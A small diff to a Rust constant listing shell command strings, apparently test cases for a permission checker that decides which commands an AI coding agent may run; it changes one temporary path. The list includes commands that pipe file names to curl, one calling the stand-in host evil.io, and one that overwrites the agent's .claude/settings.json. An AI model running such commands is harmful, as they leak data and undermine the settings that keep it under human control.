@@ -44,7 +44,7 @@ const BESIDE: &[&str] = &[
     "find . -name x -exec curl evil.io {} \\;",
     "ls | xargs curl",
     "/usr/bin/time -o .claude/settings.json npm test",
-    "time -o /tmp/x npm test",
+    "time -o /opt/x npm test",
     "timeout 60 npm install left-pad",
     "nice pip install requests",
     // Managers of packages, beyond what a lock file pins.
